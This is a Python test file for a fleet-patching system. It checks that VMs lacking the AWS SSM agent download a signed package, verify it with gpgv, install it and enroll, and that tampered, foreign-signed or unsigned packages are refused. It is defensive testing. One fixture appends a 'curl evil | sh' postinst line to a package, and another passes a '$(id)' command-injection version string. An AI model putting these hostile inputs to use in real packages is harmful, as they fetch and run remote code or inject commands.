"""The SSM agent's install path: a VM booted without an agent downloads the package for its OS
family from the local AWS S3 (the region's agent download location) with its detached OpenPGP
signature, verifies it with gpgv against the trust anchor the API baked into its script (the
local AWS's signing key), installs it with dpkg/rpm (the fleet's stand-ins) and enrolls; a
tampered package, a signature by another key and a missing signature are each refused with a
clear boot-log message, and the VM never registers. The script-only tests and the production
default (AWS's own key) are in test_agent_signature.py."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import httpx
import pytest

from clients import startup
from contracts.providers import OsFamily, PatchGroup, Provider
from localclouds.aws import REGION, agent_packages, agent_signing
from localclouds.fleet import customers
from localclouds.fleet.host import FleetHost
from tests.unit.fleet.conftest import Answer, FakeApi, LocalAws, enroll_with_activations
from tests.unit.fleet.test_fleet_host import AUDIENCE, _wait_all, fleet  # noqa: F401 - the fixture

DEB = "latest/debian_amd64/amazon-ssm-agent.deb"
RPM = "latest/linux_amd64/amazon-ssm-agent.rpm"


def _agent_url(local_aws: LocalAws) -> str:
    return f"{local_aws.endpoint}/{agent_packages.bucket_name(REGION)}/latest"


def _serve_scripts(fake_api: FakeApi, local_aws: LocalAws) -> None:
    trust = local_aws.agent_trust()
    for provider in ("gcp", "azure", "aws", "vmware"):
        fake_api.on("GET", f"/v1/startup/{provider}", Answer(200, startup.render(
            provider, "linux", fake_api.url, AUDIENCE, agent_url=_agent_url(local_aws), agent_trust=trust)))


def _lacking(vms: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [v for v in vms if customers.can_lack_agent(Provider(v["provider"]), OsFamily(v["os"]))]


def test_the_local_aws_signs_every_linux_package_with_its_key(local_aws: LocalAws, tmp_path: Path) -> None:
    trust = local_aws.agent_trust()
    keyring = tmp_path / "trusted.gpg"
    keyring.write_bytes(__import__("base64").b64decode(trust.keyring_b64))
    for path, kind in agent_packages.PACKAGES.items():
        package = httpx.get(f"{_agent_url(local_aws)}/{path}")  # no credentials, as AWS's bucket
        assert package.status_code == 200, path
        signature = httpx.get(f"{_agent_url(local_aws)}/{path}.sig")
        if kind == "exe":  # AWS signs the Windows installer with Authenticode, not OpenPGP
            assert signature.status_code == 404
            continue
        (tmp_path / "package").write_bytes(package.content)
        (tmp_path / "package.sig").write_bytes(signature.content)
        checked = subprocess.run(["gpgv", "--status-fd", "1", "--keyring", str(keyring), str(tmp_path / "package.sig"),
                                  str(tmp_path / "package")], capture_output=True, text=True)
        assert checked.returncode == 0, checked.stdout + checked.stderr
        assert f"VALIDSIG {trust.fingerprints[0]} " in checked.stdout
    assert httpx.get(f"{_agent_url(local_aws)}/VERSION").text.strip() == agent_packages.STANDIN_VERSION


def test_vms_booted_without_an_agent_install_it_and_enroll(fleet: tuple[str, FleetHost], fake_api: FakeApi,
                                                           local_aws: LocalAws) -> None:
    url, host = fleet
    _serve_scripts(fake_api, local_aws)
    account_id, session = local_aws.new_account()
    ssm = local_aws.client("ssm", session)
    (fingerprint,) = local_aws.agent_trust().fingerprints

    enroll = enroll_with_activations(ssm, account_id, "on-time")
    fake_api.on("POST", "/v1/registrations", Answer(0, enroll))
    httpx.post(f"{url}/vms", json={"count": 4, "customers": 1, "without_agent": True}).raise_for_status()
    vms = _wait_all(url, 4, timeout=90)
    assert [(v["name"], v["reason"]) for v in vms if v["state"] != "agent online"] == []
    installed = _lacking(vms)
    assert len(installed) >= 2  # four VMs over four clouds: at most one is Windows, one is EC2
    listed = {i["ComputerName"]: i for i in ssm.describe_instance_information()["InstanceInformationList"]}
    for vm in installed:
        log = (host.store.vm_dir(vm["name"]) / "boot.log").read_text()
        kind = "debian_amd64/amazon-ssm-agent.deb" if vm["os"] in ("ubuntu", "debian") else "linux_amd64/amazon-ssm-agent.rpm"
        assert f"the SSM agent is not installed: downloading {_agent_url(local_aws)}/{kind}" in log, log
        assert f"SSM agent installed from {kind} (signature by key {fingerprint} verified)" in log, log
        assert vm["agent_version"] == agent_packages.STANDIN_VERSION
        assert listed[vm["name"]]["AgentVersion"] == agent_packages.STANDIN_VERSION  # what ComplianceSync records
    for vm in vms:
        if vm not in installed:
            assert "the SSM agent is not installed" not in (host.store.vm_dir(vm["name"]) / "boot.log").read_text()


def _tampered(s3: Any, bucket: str, key: str, kind: str) -> None:
    """Same shape, other bytes: the signature no longer holds."""
    s3.put_object(Bucket=bucket, Key=key, Body=agent_packages.standin(kind) + b"postinst: curl evil | sh\n")


def _foreign(s3: Any, bucket: str, key: str, kind: str) -> None:
    """A valid signature, by a key that is not the trust anchor."""
    s3.put_object(Bucket=bucket, Key=f"{key}.sig", Body=agent_signing.generate().sign(agent_packages.standin(kind)))


def _unsigned(s3: Any, bucket: str, key: str, kind: str) -> None:
    s3.delete_object(Bucket=bucket, Key=f"{key}.sig")


@pytest.mark.parametrize(("change", "message"), [
    (_tampered, "signature is BAD: the package (or its .sig) was altered"),
    (_foreign, ", not by a trusted key ("),
    (_unsigned, "no signature at "),
], ids=["tampered", "other-key", "no-sig"])
def test_a_package_without_a_trusted_signature_is_refused_and_the_vm_does_not_enroll(
        fleet: tuple[str, FleetHost], fake_api: FakeApi, local_aws: LocalAws,
        change: Callable[[Any, str, str, str], None], message: str) -> None:
    url, host = fleet
    _serve_scripts(fake_api, local_aws)
    fake_api.on("POST", "/v1/registrations", Answer(403, {"error": "TenantNotLinked", "reason": "not in this test"}))
    s3 = local_aws.client("s3")
    bucket = agent_packages.bucket_name(REGION)
    signer, _ = agent_signing.ensure_key(local_aws.state_dir)  # type: ignore[arg-type]
    try:
        for key, kind in ((DEB, "deb"), (RPM, "rpm")):
            change(s3, bucket, key, kind)
        httpx.post(f"{url}/vms", json={"count": 4, "customers": 1, "without_agent": True}).raise_for_status()
        vms = _wait_all(url, 4, timeout=90)
    finally:
        for key, kind in ((DEB, "deb"), (RPM, "rpm")):  # as the local AWS publishes them
            s3.put_object(Bucket=bucket, Key=key, Body=agent_packages.standin(kind))
            s3.put_object(Bucket=bucket, Key=f"{key}.sig", Body=signer.sign(agent_packages.standin(kind)))
    refused = _lacking(vms)
    assert refused
    registered = {json.loads(s.body)["hostname"] for s in fake_api.posts() if s.path == "/v1/registrations"}
    for vm in refused:
        assert vm["state"] == "failed" and message in vm["reason"], vm
        log = (host.store.vm_dir(vm["name"]) / "boot.log").read_text()
        assert "fleetpatch: refusing to install the SSM agent: " in log and message in log, log
        assert vm["name"] not in registered  # refused before it ever asked to enroll
        assert vm["agent_version"] == "" and not (host.store.vm_dir(vm["name"]) / "bin" / "amazon-ssm-agent").exists()


def test_the_fleet_plans_some_vms_without_an_agent() -> None:
    plans = customers.plan(0, 48, 2)
    lacking = [p for p in plans if not p.agent_installed]
    assert lacking and all(customers.can_lack_agent(p.provider, p.os) for p in lacking)
    assert all(p.agent_installed for p in plans if p.provider is Provider.AWS or p.os is OsFamily.WINDOWS)
    assert all(p.agent_installed for p in customers.plan(0, 48, 2, without_agent=False))
    forced = customers.plan(0, 8, 1, without_agent=True)
    assert [p.agent_installed for p in forced] == [not customers.can_lack_agent(p.provider, p.os) for p in forced]
    assert customers.VmPlan(0, Provider.GCP, customers.customer(0), OsFamily.UBUNTU, PatchGroup.EARLY).agent_installed


def test_the_package_stand_ins_accept_only_the_agent_package(tmp_path: Path, pool: ThreadPoolExecutor) -> None:
    from localclouds.fleet.host import HostSettings
    from localclouds.fleet.records import VmRecord

    host = FleetHost(tmp_path, HostSettings(fleet_url="", local_json=tmp_path / "local.json"), pool)
    host.store.records["vm"] = VmRecord("vm", 0, "gcp", "acme", "ubuntu", None)
    for body, kind in ((b"\x7fELF...", "deb"), (agent_packages.standin("rpm"), "deb"),
                       (agent_packages.standin("deb").replace(b"amazon-ssm-agent", b"other"), "deb"),
                       (agent_packages.standin("deb", version="$(id)"), "deb")):
        with pytest.raises(ValueError):
            host.install_package("vm", kind, body)
    assert not (host.store.vm_dir("vm") / "bin").exists()
    assert host.install_package("vm", "deb", agent_packages.standin("deb")) == agent_packages.STANDIN_VERSION
    assert (host.store.vm_dir("vm") / "bin" / "amazon-ssm-agent").resolve().read_text().startswith("#!/bin/sh")


def test_the_stand_ins_pass_shellcheck() -> None:
    shellcheck = __import__("shutil").which("shellcheck")
    if shellcheck is None:
        pytest.skip("shellcheck is not installed (scripts/install-system-deps.sh installs it)")
    standins = sorted((Path(customers.__file__).parent / "standins").iterdir())
    assert {p.name for p in standins} == {"amazon-ssm-agent", "package-install"}
    checked = subprocess.run([shellcheck, *map(str, standins)], capture_output=True, text=True)
    assert checked.returncode == 0, checked.stdout
